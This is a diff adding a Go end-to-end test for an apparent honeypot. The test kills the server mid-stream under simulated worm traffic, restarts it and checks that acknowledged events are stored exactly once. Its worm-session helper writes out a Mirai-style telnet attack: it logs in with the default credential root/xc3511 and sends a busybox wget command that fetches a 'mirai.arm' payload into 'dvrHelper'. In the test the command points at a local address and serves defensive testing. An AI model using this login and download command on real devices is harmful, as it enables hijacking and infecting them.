@@ -1,0 +1,146 @@
+package e2e
+
+import (
+	"fmt"
+	"net/url"
+	"sync"
+	"testing"
+	"time"
+)
+
+type apiStatus struct {
+	EventsStored int64 `json:"events_stored"`
+	Bus          struct {
+		Messages  uint64 `json:"messages"`
+		Consumers map[string]struct {
+			Pending    uint64 `json:"pending"`
+			AckPending int    `json:"ack_pending"`
+		} `json:"consumers"`
+	} `json:"bus"`
+}
+
+func (s *server) status() apiStatus {
+	s.t.Helper()
+	var st apiStatus
+	if code := s.get("/api/v1/status", nil, testToken, &st); code != 200 {
+		s.t.Fatalf("status: %d", code)
+	}
+	return st
+}
+
+// TestKillNineLosesNothing kills the server with SIGKILL under a steady
+// stream of worm sessions, restarts it on the same data dir, and checks that
+// every event the bus had acknowledged is in the store exactly once.
+//
+// The sensor publishes each event and waits for the bus acknowledgement
+// before it answers the attacker, so every download whose answer a worm saw
+// was acknowledged: those are checked one by one. Beyond them, the store and
+// the stream must hold the same number of events once the consumer caught up.
+func TestKillNineLosesNothing(t *testing.T) {
+	data := t.TempDir()
+	srv := startServer(t, data)
+
+	var (
+		mu    sync.Mutex
+		acked []string
+		wg    sync.WaitGroup
+		stop  = make(chan struct{})
+	)
+	for w := 0; w < 8; w++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for n := 0; ; n++ {
+				select {
+				case <-stop:
+					return
+				default:
+				}
+				u := fmt.Sprintf("http://127.0.0.1:9/bins/k%d-%d/mirai.arm", w, n)
+				if !wormSession(srv.telnet(w%2), u) {
+					return // the server is gone
+				}
+				mu.Lock()
+				acked = append(acked, u)
+				mu.Unlock()
+			}
+		}()
+	}
+	deadline := time.Now().Add(20 * time.Second)
+	for {
+		mu.Lock()
+		n := len(acked)
+		mu.Unlock()
+		if n >= 150 || time.Now().After(deadline) {
+			break
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	srv.kill() // mid-stream: sessions are open and events are in flight
+	close(stop)
+	wg.Wait()
+	if len(acked) < 20 {
+		t.Fatalf("only %d sessions completed before the kill; the load did not run", len(acked))
+	}
+
+	srv = startServer(t, data)
+	var st apiStatus
+	waitFor(t, "the store consumer to catch up after restart", 60*time.Second, func() bool {
+		st = srv.status()
+		c := st.Bus.Consumers["store"]
+		return c.Pending == 0 && c.AckPending == 0 && uint64(st.EventsStored) == st.Bus.Messages
+	})
+
+	got := map[string]int{}
+	for _, e := range srv.events(url.Values{"kind": {"file.download"}, "limit": {"10000"}}) {
+		got[e.URL]++
+	}
+	for _, u := range acked {
+		if got[u] != 1 {
+			t.Errorf("download %s acknowledged to the worm is stored %d times", u, got[u])
+		}
+	}
+	for u, n := range got {
+		if n != 1 {
+			t.Errorf("download %s stored %d times", u, n)
+		}
+	}
+	all := srv.events(url.Values{"limit": {"10000"}})
+	ids := map[string]bool{}
+	for _, e := range all {
+		if ids[e.ID] {
+			t.Errorf("event %s stored twice", e.ID)
+		}
+		ids[e.ID] = true
+	}
+	if int64(len(all)) != st.EventsStored && len(all) < 10000 {
+		t.Errorf("listed %d events, status says %d", len(all), st.EventsStored)
+	}
+	t.Logf("%d downloads acknowledged before the kill; %d events in the stream and the store", len(acked), st.EventsStored)
+}
+
+// wormSession logs in, asks for one download, waits for the answer and
+// leaves. It returns false if the server went away at any step.
+func wormSession(addr, payloadURL string) bool {
+	w, err := tryDial(addr)
+	if err != nil {
+		return false
+	}
+	defer w.conn.Close()
+	steps := []struct{ send, want string }{
+		{"", "ogin"}, {"root", "assword"}, {"xc3511", "#"},
+		{"/bin/busybox wget " + payloadURL + " -O - > dvrHelper; /bin/busybox ECCHI", "ECCHI: applet not found"},
+	}
+	for _, s := range steps {
+		if s.send != "" {
+			if err := w.write([]byte(s.send + "\r\n")); err != nil {
+				return false
+			}
+		}
+		if _, err := w.tryExpect(s.want, 10*time.Second); err != nil {
+			return false
+		}
+	}
+	_ = w.write([]byte("exit\r\n"))
+	return true
+}
